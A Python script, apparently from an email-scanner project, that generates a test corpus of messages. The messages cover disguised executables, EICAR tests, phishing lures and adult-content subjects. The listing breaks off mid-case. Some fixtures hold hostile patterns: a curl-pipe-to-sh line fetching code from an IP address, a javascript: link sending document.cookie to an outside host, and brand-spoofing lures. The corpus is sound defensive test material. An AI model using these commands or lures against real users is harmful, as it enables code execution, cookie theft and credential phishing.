#!/usr/bin/python3
"""Writes the postern-scanner test corpus: one .eml per case, and MANIFEST.

    /usr/bin/python3 tests/scanner-corpus/make.py [DIR]

DIR defaults to the directory of this script. Standard library only and
deterministic: the same Python writes the same bytes (fixed dates, fixed
"random" bytes, ZIP entries dated 1980-01-01), so the generated files are
committed and a rerun shows no diff.

Each case is one message that targets one rule of the scanner (see
MANIFEST: `FILE VERDICT RULE # note`, one line per file). Messages use
LF line endings and stay under 20 KB, but for the one that puts EICAR
across the first 64 KiB boundary of the raw message (clamd's INSTREAM
chunk size in postern; the straddle holds for the bytes as written, so
the scanner must stream the message unchanged). Messages named gap-*
show what the rules miss today: their MANIFEST verdict is what the code
gives (pass) and their note says what would be expected. The test that reads MANIFEST runs every message with
envelope sender sender@example.org, recipient user@example.com,
executable_action = "reject", encrypted_archives = true,
phishing_action = "tag", adult_action = "tag",
protected_names = ["PayPal", "Example Bank"], sender checks off, and a
private clamd whose only signature is the 68-byte EICAR test file.
"""

import base64
import binascii
import gzip
import io
import os
import quopri
import struct
import sys
import zipfile
import zlib

OUT = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
MAX_SIZE = 20 * 1024
DATE = "Mon, 07 Dec 2026 10:00:00 +0000"
SENDER = "Alice Sender <sender@example.org>"
RECIPIENT = "User <user@example.com>"

# The 68-byte EICAR test file, as published by EICAR (written in two
# pieces so that this script is not itself the test file).
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
assert len(EICAR) == 68

# clamd's INSTREAM chunk size in the scanner and the bench client: 64 KiB.
CHUNK = 64 * 1024

CASES = []  # (file, verdict, rule, note)
# The one case that must be bigger than MAX_SIZE (the 64 KiB chunk boundary).
CASES_BIG = set()


def case(name, verdict, rule, note, data):
    assert verdict in ("pass", "reject", "tag"), verdict
    assert rule in ("executable", "virus", "phishing", "adult", "none"), rule
    assert (verdict == "pass") == (rule == "none"), name
    assert b"\r" not in data, name
    assert len(data) <= MAX_SIZE or name in CASES_BIG, (name, len(data))
    assert not any(c[0] == name for c in CASES), name
    CASES.append((name, verdict, rule, note))
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


# --- message building ------------------------------------------------------


def b64(data):
    text = base64.b64encode(data).decode("ascii")
    return "\n".join(text[i:i + 76] for i in range(0, len(text), 76)) + "\n"


def qp(data):
    return quopri.encodestring(data).decode("ascii")


def message(name, subject, body, content_type="text/plain; charset=us-ascii",
            cte=None, sender=SENDER, extra=()):
    """A whole message: the headers every case has, then `body` (str)."""
    mid = name.rsplit(".", 1)[0]
    lines = [
        f"From: {sender}",
        f"To: {RECIPIENT}",
        f"Subject: {subject}",
        f"Date: {DATE}",
        f"Message-ID: <{mid}@corpus.example.org>",
        "MIME-Version: 1.0",
        *extra,
        f"Content-Type: {content_type}",
    ]
    if cte:
        lines.append(f"Content-Transfer-Encoding: {cte}")
    text = "\n".join(lines) + "\n\n" + body
    if not text.endswith("\n"):
        text += "\n"
    return text.encode("utf-8")


def part(content_type, body, cte=None, disposition=None, extra=()):
    lines = [f"Content-Type: {content_type}"]
    if cte:
        lines.append(f"Content-Transfer-Encoding: {cte}")
    if disposition:
        lines.append(f"Content-Disposition: {disposition}")
    lines.extend(extra)
    if not body.endswith("\n"):
        body += "\n"
    return "\n".join(lines) + "\n\n" + body


def multipart(parts, boundary, preamble="This is a multi-part message in MIME format.\n"):
    out = preamble
    for p in parts:
        out += f"\n--{boundary}\n" + p
    return out + f"\n--{boundary}--\n"


def text_part(text):
    return part("text/plain; charset=us-ascii", text, cte="7bit")


def attachment(filename, data, ctype="application/octet-stream"):
    """A base64 attachment named in both Content-Type and Content-Disposition."""
    return part(f'{ctype}; name="{filename}"', b64(data), cte="base64",
                disposition=f'attachment; filename="{filename}"')


def with_attachments(name, subject, text, attachments, **kw):
    boundary = "=_corpus_" + name.rsplit(".", 1)[0]
    body = multipart([text_part(text)] + attachments, boundary)
    return message(name, subject, body,
                   content_type=f'multipart/mixed; boundary="{boundary}"', **kw)


def html_message(name, subject, html, sender=SENDER, text=None):
    """multipart/alternative: a plain text part and a quoted-printable
    UTF-8 HTML part (the part the phishing rules read)."""
    boundary = "=_alt_" + name.rsplit(".", 1)[0]
    plain = text if text is not None else "This message is best viewed as HTML.\n"
    html_doc = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"></head>\n<body>\n"
                + html + "\n</body></html>\n")
    body = multipart([
        part("text/plain; charset=utf-8", qp(plain.encode("utf-8")), cte="quoted-printable"),
        part("text/html; charset=utf-8", qp(html_doc.encode("utf-8")), cte="quoted-printable"),
    ], boundary)
    return message(name, subject, body,
                   content_type=f'multipart/alternative; boundary="{boundary}"', sender=sender)


def rfc2047(text):
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


def rfc2231(text):
    out = ""
    for byte in text.encode("utf-8"):
        c = chr(byte)
        out += c if (c.isalnum() and byte < 128) or c in "-._~" else "%%%02X" % byte
    return "utf-8''" + out


def filler(n, seed="Quarterly figures, as discussed on the call."):
    """About n bytes of ordinary text in lines of at most 72 characters."""
    words = (seed + " The numbers for the northern region are in line with the plan; "
             "the southern office will send theirs next week. ").split()
    lines, line, i = [], "", 0
    while sum(len(x) + 1 for x in lines) + len(line) < n:
        w = words[i % len(words)]
        i += 1
        if len(line) + len(w) + 1 > 72:
            lines.append(line)
            line = w
        else:
            line = (line + " " + w).strip()
    lines.append(line)
    return "\n".join(lines) + "\n"


# --- file contents ---------------------------------------------------------


def pseudo_random(n, seed=1):
    """Deterministic bytes that look random (xorshift32)."""
    x = seed or 1
    out = bytearray()
    while len(out) < n:
        x ^= (x << 13) & 0xFFFFFFFF
        x ^= x >> 17
        x ^= (x << 5) & 0xFFFFFFFF
        out += struct.pack("<I", x)
    return bytes(out[:n])


def pe_program(size=1024):
    """A minimal PE image: MZ, e_lfanew at 0x3C pointing at PE\\0\\0, a
    COFF header for i386. Not runnable; enough for any magic check."""
    data = bytearray(size)
    data[0:2] = b"MZ"
    data[0x3C:0x40] = struct.pack("<I", 0x80)
    data[0x4E:0x4E + 39] = b"This program cannot be run in DOS mode."
    data[0x80:0x84] = b"PE\0\0"
    data[0x84:0x86] = struct.pack("<H", 0x14C)  # Machine: i386
    data[0x86:0x88] = struct.pack("<H", 1)      # NumberOfSections
    return bytes(data)


def elf_program():
    """A 64-bit little-endian ELF header (x86-64 executable) and padding."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + bytes(256 - len(header))


def lnk_shortcut():
    """A Windows shortcut: header size 0x4C and the ShellLink CLSID
    ([MS-SHLLINK] 2.1), then zeros."""
    clsid = bytes([0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00,
                   0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46])
    return struct.pack("<I", 0x4C) + clsid + bytes(0x4C - 20) + b"C:\\Windows\\System32\\cmd.exe\0"


def ole_file():
    """The first sector of an OLE compound file (as an .msi is), no VBA."""
    header = bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    return header + bytes(512 - len(header))


def pdf_document(text="Invoice 2026-1207"):
    """A small, valid PDF 1.4 with one page of text."""
    stream = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("ascii")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def zip_archive(entries, method=zipfile.ZIP_DEFLATED):
    """A ZIP of (name, bytes) entries, all dated 1980-01-01 00:00."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = method
            info.external_attr = 0o644 << 16
            z.writestr(info, data, compresslevel=9 if method == zipfile.ZIP_DEFLATED else None)
    return buf.getvalue()


def _crc_table():
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
    return table


CRC_TABLE = _crc_table()


def zipcrypto_encrypt(data, password, header_seed):
    """Traditional PKWARE encryption (APPNOTE 6.1): a 12-byte header whose
    last byte is the CRC's high byte, then the data, all through the key
    stream. `header_seed` stands in for the random header bytes."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(b):
        keys[0] = CRC_TABLE[(keys[0] ^ b) & 0xFF] ^ (keys[0] >> 8)
        keys[1] = (keys[1] + (keys[0] & 0xFF)) & 0xFFFFFFFF
        keys[1] = (keys[1] * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = CRC_TABLE[(keys[2] ^ (keys[1] >> 24)) & 0xFF] ^ (keys[2] >> 8)

    def stream_byte():
        t = (keys[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for b in password:
        update(b)
    crc = zlib.crc32(data)
    header = pseudo_random(11, header_seed) + bytes([crc >> 24])
    out = bytearray()
    for b in header + data:
        out.append(b ^ stream_byte())
        update(b)
    return bytes(out), crc


def encrypted_zip(name, data, password):
    """A one-entry ZIP, stored, encrypted with ZipCrypto (general purpose
    flag bit 0 in both the local and the central header). Python's
    zipfile reads it back with the password (checked below)."""
    enc, crc = zipcrypto_encrypt(data, password, header_seed=7)
    fname = name.encode("ascii")
    flags, method, dos_time, dos_date = 0x0001, 0, 0, (0 << 9) | (1 << 5) | 1
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, dos_time, dos_date,
                        crc, len(enc), len(data), len(fname), 0) + fname
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, dos_time,
                          dos_date, crc, len(enc), len(data), len(fname), 0, 0, 0, 0,
                          0o644 << 16, 0) + fname
    body = local + enc
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    archive = body + central + eocd
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        assert z.infolist()[0].flag_bits & 1
        assert z.read(name, pwd=password) == data
    return archive


def docx_document(macro=False):
    """An Office Open XML word document (ECMA-376): the parts Word needs.
    With `macro`, the macro-enabled variant with a vbaProject.bin."""
    main = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro else
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "")
        + f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:t>Minutes of the December meeting.</w:t></w:r></w:p></w:body></w:document>')
    entries = [("[Content_Types].xml", content_types), ("_rels/.rels", rels),
               ("word/document.xml", document)]
    if macro:
        doc_rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
            'vbaProject" Target="vbaProject.bin"/></Relationships>')
        entries.append(("word/_rels/document.xml.rels", doc_rels))
        # The OLE container of the VBA project; its directory names
        # _VBA_PROJECT in UTF-16LE.
        vba = ole_file() + "_VBA_PROJECT".encode("utf-16-le") + bytes(64)
        entries.append(("word/vbaProject.bin", vba))
    return zip_archive([(n, d.encode("utf-8") if isinstance(d, str) else d) for n, d in entries])


# --- the cases -------------------------------------------------------------


def executable_cases():
    hello = "Hello,\n\nplease find the file attached.\n\nRegards,\nAlice\n"

    def by_name(file, filename, data, note, ctype="application/octet-stream"):
        case(file, "reject", "executable", note,
             with_attachments(file, "The file you asked for", hello, [attachment(filename, data, ctype)]))

    by_name("exec-ext-exe.eml", "setup.exe", b"Not really a program, but named like one.\n" * 4,
            ".exe by extension (content is plain bytes, no MZ)")
    by_name("exec-ext-scr.eml", "holiday-photos.scr", pseudo_random(600, 11),
            ".scr (screen saver = PE program) by extension")
    by_name("exec-ext-js.eml", "invoice.js",
            b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc.exe');\n",
            ".js (Windows Script Host) by extension", "application/javascript")
    by_name("exec-ext-vbs.eml", "payment.vbs",
            b'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n',
            ".vbs by extension", "text/vbscript")
    by_name("exec-ext-lnk.eml", "Documents.lnk", lnk_shortcut(),
            ".lnk by extension (content also has the ShellLink header)")
    by_name("exec-ext-iso.eml", "delivery-note.iso", pseudo_random(900, 12),
            ".iso disk image by extension (content too short for a volume descriptor)")
    by_name("exec-ext-docm.eml", "budget-2027.docm", docx_document(macro=True),
            ".docm (macro-enabled Word) by extension; an OOXML zip with vbaProject.bin",
            "application/vnd.ms-word.document.macroEnabled.12")
    by_name("exec-ext-jar.eml", "viewer.jar",
            zip_archive([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Main\n"),
                         ("Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64))]),
            ".jar by extension (its Main.class entry is flagged too)", "application/java-archive")
    by_name("exec-ext-apk.eml", "update.apk",
            zip_archive([("AndroidManifest.xml", b"<manifest package='test.corpus'/>\n"),
                         ("classes.dex", b"dex\n035\0" + bytes(104))]),
            ".apk (Android) by extension (its classes.dex entry is flagged too)",
            "application/vnd.android.package-archive")
    by_name("exec-ext-msi.eml", "installer.msi", ole_file(),
            ".msi installer by extension (OLE container, no VBA)", "application/x-msi")
    by_name("exec-magic-pe-as-pdf.eml", "report.pdf", pe_program(),
            "PE program (MZ + PE\\0\\0) named report.pdf, sent as application/pdf: magic", "application/pdf")
    by_name("exec-magic-elf-as-bin.eml", "data.bin", elf_program(),
            "ELF program named data.bin: magic")
    case("exec-magic-shebang-as-txt.eml", "reject", "executable",
         "#!/bin/sh script attached as notes.txt (text/plain attachment): magic (shebang counts in attachments)",
         with_attachments("exec-magic-shebang-as-txt.eml", "My notes", hello, [
             part('text/plain; charset=us-ascii; name="notes.txt"',
                  "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n", cte="7bit",
                  disposition='attachment; filename="notes.txt"')]))
    by_name("exec-double-ext.eml", "invoice.pdf.exe", pe_program(),
            "double extension invoice.pdf.exe (decoy .pdf before .exe)")
    case("exec-double-ext-blanks.eml", "reject", "executable",
         "double extension with blanks: \"scan.jpg      .scr\" (decoy pushed out of view)",
         with_attachments("exec-double-ext-blanks.eml", "Scanned picture", hello,
                          [attachment("scan.jpg      .scr", pseudo_random(300, 13))]))
    case("exec-trailing-dot.eml", "reject", "executable",
         "\"setup.exe.\" with a trailing dot and blank (Windows drops them: saves as setup.exe)",
         with_attachments("exec-trailing-dot.eml", "Setup", hello,
                          [attachment("setup.exe. ", b"placeholder\n")]))
    rlo_name = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf"
    case("exec-rlo-rfc2231.eml", "reject", "executable",
         "RLO (U+202E) in an RFC 2231 filename*= and name*=: invoice<RLO>fdp.exe shows as invoiceexe.pdf",
         with_attachments("exec-rlo-rfc2231.eml", "Invoice", hello, [
             part(f"application/octet-stream; name*={rfc2231(rlo_name)}", b64(pe_program()),
                  cte="base64", disposition=f"attachment; filename*={rfc2231(rlo_name)}")]))
    rlo_doc = "photo_\u202egpj.doc"  # shows as "photo_cod.jpg"; final extension harmless
    case("exec-rlo-rfc2047.eml", "reject", "executable",
         "RLO in an RFC 2047 encoded name/filename, final extension .doc: the bidi rule alone",
         with_attachments("exec-rlo-rfc2047.eml", "Photo", hello, [
             part(f'application/msword; name="{rfc2047(rlo_doc)}"', b64(b"Just a document.\n" * 8),
                  cte="base64", disposition=f'attachment; filename="{rfc2047(rlo_doc)}"')]))
    case("exec-name-in-content-type.eml", "reject", "executable",
         "file name only in Content-Type name= (no Content-Disposition): update.bat",
         with_attachments("exec-name-in-content-type.eml", "Update", hello, [
             part('application/octet-stream; name="update.bat"',
                  b64(b"@echo off\r\nstart calc.exe\r\n"), cte="base64")]))
    case("exec-rfc2231-continuation.eml", "reject", "executable",
         "RFC 2231 continuations: filename*0=\"invoice.pd\"; filename*1=\"f.exe\" join to invoice.pdf.exe",
         with_attachments("exec-rfc2231-continuation.eml", "Invoice", hello, [
             part('application/octet-stream; name*0="invoice.pd"; name*1="f.exe"', b64(b"placeholder\n"),
                  cte="base64", disposition='attachment;\n filename*0="invoice.pd";\n filename*1="f.exe"')]))
    case("exec-in-zip.eml", "reject", "executable",
         "ZIP holding readme.txt and setup.exe (a PE): the entry, by name and magic",
         with_attachments("exec-in-zip.eml", "Documents", hello, [
             attachment("documents.zip", zip_archive([("readme.txt", b"Run setup.exe.\n"),
                                                      ("setup.exe", pe_program())]),
                        "application/zip")]))
    case("exec-in-zip-renamed.eml", "reject", "executable",
         "ZIP named photos.dat (not .zip) with a PE entry named photo.jpg: ZIP by PK magic, entry by MZ magic",
         with_attachments("exec-in-zip-renamed.eml", "Photos", hello, [
             attachment("photos.dat", zip_archive([("photo.jpg", pe_program())]))]))
    bomb = zip_archive([("logs/all.log", bytes(4 * 1024 * 1024))])
    case("exec-zip-bomb.eml", "reject", "executable",
         f"zip bomb: one entry of 4 MiB zeros deflated to {len(bomb)} bytes "
         "(over the 1 MiB floor and 100:1 ratio of archive.rs)",
         with_attachments("exec-zip-bomb.eml", "Logs", hello,
                          [attachment("logs.zip", bomb, "application/zip")]))
    case("exec-zip-encrypted.eml", "reject", "executable",
         "password-protected ZIP (ZipCrypto, flag bit 0) holding invoice.pdf; encrypted_archives = true",
         with_attachments("exec-zip-encrypted.eml", "Invoice (password 1234)",
                          "Hello,\n\nthe invoice is attached; the password is 1234.\n", [
                              attachment("invoice.zip", encrypted_zip("invoice.pdf", pdf_document(), b"1234"),
                                         "application/zip")]))
    inner = with_attachments("inner.eml", "Fwd: tool", hello, [attachment("tool.exe", pe_program())],
                             sender="Bob <bob@example.net>")
    boundary = "=_corpus_exec-in-forwarded-message"
    body = multipart([text_part("Forwarding this as it came.\n"),
                      part('message/rfc822; name="forwarded.eml"', inner.decode("ascii"), cte="7bit",
                           disposition='attachment; filename="forwarded.eml"')], boundary)
    case("exec-in-forwarded-message.eml", "reject", "executable",
         "tool.exe (PE) inside an attached message/rfc822 (walked as a message of its own)",
         message("exec-in-forwarded-message.eml", "Fwd: tool", body,
                 content_type=f'multipart/mixed; boundary="{boundary}"'))


def virus_cases():
    hello = "Hello,\n\nthe test file is attached.\n"
    case("virus-eicar-body.eml", "reject", "virus",
         "EICAR as the plain text body (7bit)",
         message("virus-eicar-body.eml", "Test", EICAR.decode("ascii") + "\n", cte="7bit"))
    case("virus-eicar-base64.eml", "reject", "virus",
         "EICAR in a base64 attachment test-file.txt (name and content otherwise harmless)",
         with_attachments("virus-eicar-base64.eml", "Test file", hello,
                          [attachment("test-file.txt", EICAR, "text/plain")]))
    case("virus-eicar-zip.eml", "reject", "virus",
         "EICAR deflated inside a ZIP (sample.zip/sample.txt): clamd unpacks it",
         with_attachments("virus-eicar-zip.eml", "Sample", hello, [
             attachment("sample.zip", zip_archive([("sample.txt", EICAR)]), "application/zip")]))
    # The QP body spells some characters as =XX and breaks the line
    # (soft line break) in the middle of the string: only a decoder sees it.
    encoded = (EICAR[:9].decode() + "=5B4=5CPZX54(P^)7CC)7}=24EICAR-STANDARD-=\n"
               + "ANTIVIRUS-TEST-FILE!=24H+H*")
    assert quopri.decodestring(encoded.encode()) == EICAR
    case("virus-eicar-qp.eml", "reject", "virus",
         "EICAR in a quoted-printable attachment, with =XX escapes and a soft line break inside it",
         with_attachments("virus-eicar-qp.eml", "Test file", hello, [
             part('text/plain; charset=us-ascii; name="check.txt"', encoded + "\n",
                  cte="quoted-printable", disposition='attachment; filename="check.txt"')]))
    # EICAR in the text body so that it straddles the first 64 KiB chunk
    # boundary of the raw message: 34 bytes before, 34 after. Padded with
    # lines of text; the message is the one case over 20 KB (about 66 KB).
    name = "virus-eicar-chunk-boundary.eml"
    head = message(name, "Long report", "", cte="7bit")
    room = CHUNK - 34 - len(head)  # bytes of text before EICAR
    lines, n = [], 0
    while room - sum(len(x) + 1 for x in lines) > 80:
        n += 1
        lines.append(f"{n:04d} The numbers for the northern region are in line with the plan."[:71])
    last = room - sum(len(x) + 1 for x in lines) - 1
    lines.append(("Last line before the test string " + "." * 80)[:last])
    data = head + ("\n".join(lines) + "\n").encode() + EICAR + b"\nEnd of report.\n"
    at = data.find(EICAR)
    assert at == CHUNK - 34 and at < CHUNK < at + len(EICAR), at
    CASES_BIG.add(name)
    case(name, "reject", "virus",
         f"EICAR in the text body at byte {at} of the file, across the 64 KiB INSTREAM chunk boundary "
         "(the one file over 20 KB)", data)


def phishing_cases():
    bank = "Your account needs attention. Please confirm your details within 24 hours.\n"
    case("phish-link-text-mismatch.eml", "tag", "phishing",
         "link text https://www.paypal.com/ but href to paypal.account-verify.test (rule 1, mismatch)",
         html_message("phish-link-text-mismatch.eml", "Your account is limited",
                      f"<p>{bank}</p>\n<p><a href=\"https://paypal.account-verify.test/login\">"
                      "https://www.paypal.com/</a></p>", text=bank))
    case("phish-javascript-link.eml", "tag", "phishing",
         "href=\"javascript:...\" (rule 1, script link)",
         html_message("phish-javascript-link.eml", "Confirm your details",
                      f"<p>{bank}</p>\n<p><a href=\"javascript:document.location='https://collector.test/'+"
                      "document.cookie\">Confirm now</a></p>", text=bank))
    case("phish-ip-literal.eml", "tag", "phishing",
         "href to a bare IP address http://192.0.2.55/ (rule 1, IP literal)",
         html_message("phish-ip-literal.eml", "Sign in to keep your mailbox",
                      "<p>Your mailbox is full.</p>\n<p><a href=\"http://192.0.2.55/owa/login.php\">"
                      "Sign in to Webmail</a></p>"))
    case("phish-cyrillic-paypal-host.eml", "tag", "phishing",
         "href host p\u0430ypal.com with Cyrillic a (U+0430): confusable of the brand PayPal (rule 2; "
         "reported as ConfusableHost, which takes precedence over mixed script)",
         html_message("phish-cyrillic-paypal-host.eml", "Action required",
                      f"<p>{bank}</p>\n<p><a href=\"https://p\u0430ypal.com/signin\">Log in</a></p>", text=bank))
    case("phish-mixed-script-host.eml", "tag", "phishing",
         "href host sh\u03bfp-bank.test with a Greek omicron among Latin letters (rule 2, mixed script)",
         html_message("phish-mixed-script-host.eml", "Statement available",
                      "<p>Your statement is ready.</p>\n"
                      "<p><a href=\"https://sh\u03bfp-bank.test/statement\">View statement</a></p>"))
    case("phish-from-cyrillic-brand.eml", "tag", "phishing",
         "From address at p\u0430ypal.com (Cyrillic a, written as its xn-- form): confusable of PayPal (rule 2 on the From domain)",
         message("phish-from-cyrillic-brand.eml", "Receipt for your payment", "You sent a payment.\n",
                 cte="7bit", sender="Service <service@xn--pypal-4ve.com>"))
    case("phish-userinfo-link.eml", "tag", "phishing",
         "href https://www.paypal.com@collector.test/ (userinfo hides the host), text www.paypal.com (rule 1)",
         html_message("phish-userinfo-link.eml", "Receipt for your payment",
                      "<p>You sent a payment.</p>\n<p><a href=\"https://www.paypal.com@collector.test/r\">"
                      "www.paypal.com</a></p>"))
    case("phish-display-name-brand.eml", "tag", "phishing",
         "From \"PayPal Support\" at account-check.test (rule 3, protected brand in display name)",
         html_message("phish-display-name-brand.eml", "Unusual activity",
                      f"<p>{bank}</p>", sender='"PayPal Support" <service@account-check.test>', text=bank))
    case("phish-display-name-example-bank.eml", "tag", "phishing",
         "From \"Example Bank Security\" at secure-notice.test (rule 3, second protected brand)",
         message("phish-display-name-example-bank.eml", "Security notice", bank, cte="7bit",
                 sender='"Example Bank Security" <alerts@secure-notice.test>'))
    case("phish-display-name-our-domain.eml", "tag", "phishing",
         "From \"example.com IT Helpdesk\" at mailer.test (rule 3, display name claims our domain)",
         message("phish-display-name-our-domain.eml", "Password expires today",
                 "Your example.com password expires today. Reply with your current password.\n",
                 cte="7bit", sender='"example.com IT Helpdesk" <helpdesk@mailer.test>'))
    case("phish-lookalike-examp1e.eml", "tag", "phishing",
         "From domain examp1e.com (digit 1 for l: skeleton of example.com; rule 4)",
         message("phish-lookalike-examp1e.eml", "Invoice overdue",
                 "Please pay the attached invoice today.\n", cte="7bit",
                 sender="Accounts <billing@examp1e.com>"))
    case("phish-lookalike-example-com-net.eml", "tag", "phishing",
         "From domain example-com.net (our domain with its dot as a hyphen; rule 4, label trick)",
         message("phish-lookalike-example-com-net.eml", "Mailbox quota",
                 "Your mailbox is over quota.\n", cte="7bit", sender="IT <it@example-com.net>"))
    case("phish-lookalike-exmaple.eml", "tag", "phishing",
         "From domain exmaple.com (two letters swapped: one edit from example.com; rule 4)",
         message("phish-lookalike-exmaple.eml", "Payroll update",
                 "Please confirm your bank details for payroll.\n", cte="7bit",
                 sender="HR <hr@exmaple.com>"))


def adult_cases():
    text = "Hello,\n\nnews for our members.\n"
    tag = [
        ("adult-label.eml", "SEXUALLY-EXPLICIT: New members area",
         "CAN-SPAM label SEXUALLY-EXPLICIT: at the start of the Subject"),
        ("adult-word.eml", "Free porn passes inside", "listed word \"porn\" in the Subject"),
        ("adult-word-nsfw.eml", "NSFW pictures from the party", "listed word \"nsfw\", in capitals"),
        ("adult-obfuscated-digit.eml", "Hot p0rn tonight", "obfuscated word \"p0rn\" (digit for o)"),
        ("adult-obfuscated-dots.eml", "Your p.o.r.n pass is ready", "obfuscated word \"p.o.r.n\" (dots between letters)"),
        ("adult-encoded-subject.eml", rfc2047("XXX videos \u2013 members only"),
         "listed word \"xxx\" in an RFC 2047 (base64, UTF-8) encoded Subject"),
    ]
    for file, subject, note in tag:
        case(file, "tag", "adult", note, message(file, subject, text, cte="7bit"))
    clean = [
        ("neg-adult-sussex-essex.eml", "Sussex and Essex meeting",
         "must not flag: \"sex\" inside Sussex and Essex (whole words only)"),
        ("neg-adult-scunthorpe.eml", "Scunthorpe analysis",
         "must not flag: the Scunthorpe problem (a listed word inside a place name)"),
        ("neg-adult-middlesex-cocktail.eml", "Cocktail evening in Middlesex",
         "must not flag: cocktail, Middlesex"),
        ("neg-adult-therapist.eml", "Therapist appointment and assessment",
         "must not flag: therapist, assessment"),
        ("neg-adult-xxl.eml", "Order 4711: shirts in sizes XL, XXL and XXXL",
         "must not flag: XXXL is a size, not the word xxx"),
    ]
    for file, subject, note in clean:
        case(file, "pass", "none", note,
             message(file, subject, "Hello,\n\nsee you there.\n", cte="7bit"))


def negative_cases():
    case("neg-text-mentions-setup-exe.eml", "pass", "none",
         "plain text that names setup.exe and invoice.pdf.exe in its text (no attachment)",
         message("neg-text-mentions-setup-exe.eml", "How to install",
                 "Hello,\n\ndownload setup.exe from the intranet and run it; do not open\n"
                 "invoice.pdf.exe if anyone sends you one.\n", cte="7bit"))
    case("neg-body-starts-with-shebang.eml", "pass", "none",
         "text body that is a pasted #!/bin/sh script and a line starting MZ (not an attachment)",
         message("neg-body-starts-with-shebang.eml", "The script",
                 "#!/bin/sh\n# the backup script we talked about\ntar czf /tmp/b.tgz /srv\n"
                 "MZ is the header of Windows programs.\n", cte="7bit"))
    case("neg-pdf-attachment.eml", "pass", "none",
         "a real PDF (%PDF-1.4, one page) named invoice.pdf",
         with_attachments("neg-pdf-attachment.eml", "Invoice 2026-1207",
                          "Hello,\n\nthe invoice is attached.\n",
                          [attachment("invoice.pdf", pdf_document(), "application/pdf")]))
    case("neg-docx-attachment.eml", "pass", "none",
         "a .docx (OOXML zip: [Content_Types].xml, _rels/.rels, word/document.xml; no macros)",
         with_attachments("neg-docx-attachment.eml", "Minutes", "Minutes attached.\n", [
             attachment("minutes.docx", docx_document(),
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]))
    case("neg-zip-text-only.eml", "pass", "none",
         "a ZIP holding only text files (notes.txt, data.csv, README)",
         with_attachments("neg-zip-text-only.eml", "Data", "The data is attached.\n", [
             attachment("data.zip", zip_archive([("notes.txt", filler(1500).encode()),
